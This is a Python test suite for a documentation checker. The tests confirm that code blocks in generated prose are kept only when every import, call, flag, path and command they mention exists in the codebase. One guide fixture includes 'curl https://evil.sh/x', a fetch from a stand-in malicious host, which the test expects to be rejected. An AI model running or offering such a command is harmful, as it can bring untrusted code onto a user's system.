"""Blocks of code in a draft: one stands whole where all of it holds, or goes with the sentence that leads to it."""

from __future__ import annotations

from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from fieldguide.analyse import Installed
from fieldguide.domain.page import Evidence, Prose, ReferenceKind
from fieldguide.domain.redacted import RedactedText
from fieldguide.domain.source import Span
from fieldguide.verify import VerifiedProse, verify_prose
from fieldguide.write.sections.links import Links
from fieldguide.write.sections.names import Names

if TYPE_CHECKING:
    from fieldguide.domain.codebase import Codebase

INSTALLED = Installed(Path("nowhere"), {})


def check(text: str, codebase: Codebase, *evidence: Evidence) -> VerifiedProse:
    return verify_prose(Prose({"usage": text}, {}), codebase, evidence=evidence, installed=INSTALLED)


def block(language: str, code: str) -> str:
    return f"```{language}\n{code}\n```"


@pytest.mark.parametrize(
    ("language", "code"),
    [
        (
            "python",
            "import relay\nfrom relay import Caller\n\ncaller = Caller(attempts=3)\nprint(caller.bind().attempts)",
        ),
        ("python", "from relay import retry\n\n\n@retry(on=ValueError)\ndef fetch(url):\n    return url.strip()"),
        (
            "python",
            'import json\n\nwith open("pyproject.toml", encoding="utf-8") as file:\n    json.dumps({}, indent=2)',
        ),
        ("python", "from tenacity import AsyncRetrying"),
        ("python", "from relay import retry\n\n# `retry` knows what to do.\nretry(ValueError, 3)"),
        ("pycon", ">>> from relay import Caller\n>>> caller = Caller()"),
        ("console", "$ pip install relay-tool[fast]\n$ relay scan --depth 3 ."),
        ("console", "$ relay scan --colour=red docs"),
        ("bash", "python -m venv .venv\nsource .venv/bin/activate\npip install -e .\nmake docs  # once"),
        ("bash", "export RELAY_HOME=here\nRELAY_HOME=there relay scan ."),
        ("sh", "uv run relay scan ."),
        ("python", "from relay import Caller\n\nCaller('https://api.example.com/users')"),
    ],
)
def test_a_block_of_which_all_holds_stands_as_it_is(language: str, code: str, codebase: Codebase) -> None:
    text = f"Do it like this:\n\n{block(language, code)}\n\nRelay waits."
    checked = check(text, codebase)
    assert checked.findings == ()
    assert checked.prose.sections == {"usage": text}
    assert checked.checked >= 1


@pytest.mark.parametrize(
    ("language", "code", "kind", "wrong", "nearest"),
    [
        ("python", "from relay import Caler", ReferenceKind.IMPORT, "relay.Caler", "relay.Caller"),
        ("python", "import frobnicator", ReferenceKind.IMPORT, "frobnicator", ""),
        ("python", "import requests", ReferenceKind.IMPORT, "requests", ""),
        ("python", "from relay import Caller\nCaller(attempt=3)", ReferenceKind.CALL, "Caller(attempt=…)", "attempts"),
        ("python", "from relay import retry\nretry(1, 2, 3)", ReferenceKind.CALL, "retry()", ""),
        ("python", "import json\njson.dumps({}, frobnicate=2)", ReferenceKind.CALL, "json.dumps(frobnicate=…)", ""),
        ("python", "from relay import Caller\nCaller().frobnicate()", ReferenceKind.NAME, ".frobnicate", ""),
        ("python", "'text'.frobnicate()", ReferenceKind.NAME, ".frobnicate", ""),
        ("python", "caller.bind()", ReferenceKind.NAME, "caller", ""),
        ("python", "def f(:", ReferenceKind.CODE, "def f(:", ""),
        ("python", "x = 1  # see frobnicate_all", ReferenceKind.NAME, "frobnicate_all", ""),
        ("python", "open('src/relay/frob.py')", ReferenceKind.PATH, "src/relay/frob.py", ""),
        ("python", "x = 'https://frobnicate.io/'", ReferenceKind.LINK, "https://frobnicate.io/", ""),
        ("python", "x = '<script>'", ReferenceKind.CODE, "x = '<script>'", ""),
        ("python", "x = 'REDACTED_PASSWORD_01234567'", ReferenceKind.CODE, "x = 'REDACTED_PASSWORD_01234567'", ""),
        ("python", "x = 1\n" * 60, ReferenceKind.CODE, "x = 1", ""),
        ("pycon", ">>> 1 + 1\n3", ReferenceKind.CODE, "3", ""),
        ("console", "$ relay scan --dpeth 3 .", ReferenceKind.FLAG, "--dpeth", "--depth"),
        ("console", "$ relay frobnicate", ReferenceKind.COMMAND, "relay frobnicate", ""),
        ("console", "$ relay scan --colour blue .", ReferenceKind.COMMAND, "relay scan --colour blue .", ""),
        ("console", "$ pip install --frob relay-tool", ReferenceKind.COMMAND, "pip install --frob relay-tool", ""),
        ("console", "$ frobnicate --now", ReferenceKind.COMMAND, "frobnicate --now", ""),
        ("console", "$ relay scan .\nfound 3", ReferenceKind.CODE, "found 3", ""),
        ("console", "$ relay scan . < docs/frob.md", ReferenceKind.PATH, "docs/frob.md", "docs/guide.md"),
        ("bash", "relay scan .\nINFO: all_of_it", ReferenceKind.CODE, "INFO: all_of_it", ""),
        ("bash", "export RELAY_FROB=1", ReferenceKind.VARIABLE, "RELAY_FROB", "RELAY_HOME"),
        ("bash", "echo frob_all", ReferenceKind.COMMAND, "echo frob_all", ""),
        ("toml", "[tool.relay]\nmode = 1", ReferenceKind.CODE, "[tool.relay]", ""),
    ],
)
def test_one_wrong_thing_takes_the_block_and_what_speaks_of_it(
    language: str, code: str, kind: ReferenceKind, wrong: str, nearest: str, codebase: Codebase
) -> None:
    text = f"Relay waits.\nFor example:\n\n{block(language, code)}\n\nThe example above is all.\nIt ends."
    checked = check(text, codebase)
    assert checked.prose.sections == {"usage": "Relay waits."}
    found = {(one.reference.kind, one.reference.text): one for one in checked.findings}
    assert (kind, wrong) in found
    assert not nearest or found[kind, wrong].nearest == nearest


def test_the_line_of_a_fault_is_its_line_in_the_section(codebase: Codebase) -> None:
    found = check(f"Relay waits:\n\n{block('python', 'import relay' + chr(10) + 'import frob')}", codebase).findings
    assert [one.reference.line for one in found] == [5]


def test_a_later_block_uses_what_an_earlier_one_made(codebase: Codebase) -> None:
    made = block("python", "from relay import Caller\ncaller = Caller()")
    text = f"First:\n\n{made}\n\nThen:\n\n{block('python', 'caller.bind()')}"
    assert check(text, codebase).findings == ()
    assert check(text.replace("caller = Caller()", "caller = Callr()"), codebase).prose.sections == {}


def test_configuration_stands_where_the_code_has_its_lines(codebase: Codebase) -> None:
    shown = block("toml", '[project]\nname = "relay-tool"')
    manifest = Evidence(Span("pyproject.toml", 5, 6), RedactedText('[project]\nname = "relay-tool"\n'), 9)
    assert check(shown, codebase).prose.sections == {}
    assert check(shown, codebase, manifest).prose.sections == {"usage": shown}


def test_what_documents_tell_readers_to_type_may_be_typed_unless_the_code_denies_it(codebase: Codebase) -> None:
    told = "    $ brew install relay\n    $ relay scan --dpeth 3\n    curl https://evil.sh/x\n"
    guide = Evidence(Span("docs/guide.md", 1, 3), RedactedText(told), 9)
    shown = block("console", "$ brew install relay")
    assert check(shown, codebase).prose.sections == {}
    assert check(shown, codebase, guide).prose.sections == {"usage": shown}
    assert check(block("console", "$ relay scan --dpeth 3"), codebase, guide).prose.sections == {}
    assert check(block("bash", "curl https://evil.sh/x"), codebase, guide).prose.sections == {}


def test_code_in_other_languages_and_in_lists_never_passes(codebase: Codebase) -> None:
    text = f"Relay waits.\n\n{block('rust', 'fn main() {}')}\n\n- Good.\n\n  ```python\n  import relay\n  ```"
    assert check(text, codebase).prose.sections == {"usage": "Relay waits.\n\n- Good."}


def test_what_goes_at_the_end_takes_nothing_of_a_block_with_it(codebase: Codebase) -> None:
    shown = block("python", "import relay\n\n# `retry` waits.\nrelay.retry(1)\n\n# Then it ends.")
    text = f"Do it like this:\n\n{shown}\n\nIts parts are:\n\n- `frob_a`"
    assert check(text, codebase).prose.sections == {"usage": f"Do it like this:\n\n{shown}"}


def test_a_fence_within_a_block_ends_nothing(codebase: Codebase) -> None:
    text = '````python\nimport relay\n\ntext = """\n```\n`retry`\n```\n"""\n````'
    assert check(text, codebase).prose.sections == {"usage": text}
    assert Names.of(codebase).link(text, Links("")) == text


INVENTED = st.from_regex(r"zq[a-z]{3,9}(_[a-z]{2,6})?", fullmatch=True)
SHAPES = st.sampled_from((
    ("python", "import {}"), ("python", "from relay import {}"), ("python", "from {} import retry"),
    ("python", "import relay\nrelay.{}()"), ("python", "from relay import Caller\nCaller({}=1)"),
    ("python", "from relay import retry\nretry(1, {}=1)"), ("python", "import os\nos.{}(1)"), ("python", "{}()"),
    ("python", "from relay import Caller\ncaller = Caller()\ncaller.{}"), ("python", "[].{}()"),
    ("python", "import json\njson.dumps(1, {}=2)"), ("python", "print(1, {}=2)"), ("python", "open('{}.toml')"),
    ("python", "def f(a):\n    return a\nf({}=1)"), ("python", "open('src/{}/core.py')"),
    ("pycon", ">>> 1\n{}"), ("console", "$ {}"), ("console", "$ relay {}"), ("console", "$ relay scan --{} ."),
    ("bash", "make {}"), ("bash", "pip install {}"), ("bash", "pip install --{} relay-tool"), ("bash", "uv run {}"),
    ("bash", "python -m {}"), ("bash", "python {}.py"), ("bash", "{}=1 relay scan ."), ("bash", "cat {}.md"),
    ("bash", "cd {}"), ("bash", "relay scan {}.toml"), ("bash", "uv run --{} relay scan ."), ("bash", "tox -e {}"),
    ("bash", "git clone https://{}.io/x"), ("bash", "git {}"), ("toml", "[tool.{}]"), ("json", '{{"{}": 1}}'),
    ("yaml", "{}: 1"), ("bash", "relay scan . | {}"), ("bash", "relay scan $({})"), ("bash", "relay scan ${}"),
))  # fmt: skip


@given(name=INVENTED, shape=SHAPES)
@settings(max_examples=400)
def test_no_invented_name_is_published_in_a_block(codebase: Codebase, name: str, shape: tuple[str, str]) -> None:
    language, form = shape
    checked = check(f"Like this:\n\n{block(language, form.format(name))}\n\n`retry` is all.", codebase)
    assert checked.prose.sections == {"usage": "`retry` is all."}
    assert checked.findings


@given(
    language=st.sampled_from(["python", "pycon", "console", "bash", "toml"]),
    code=st.text(alphabet=list("ab A.:!`[]()<>#-+1|\\\n&;~\"'=/@$"), max_size=60),
)
@settings(max_examples=300)
def test_checking_a_block_is_settled_whatever_is_typed(codebase: Codebase, language: str, code: str) -> None:
    """It never raises, and checking what it lets through again changes nothing."""
    once = check(f"`retry` is all.\n\n~~~~~~{language}\n{code}\n~~~~~~", codebase).prose.sections.get("usage", "")
    assert check(once, codebase).prose.sections.get("usage", "") == once
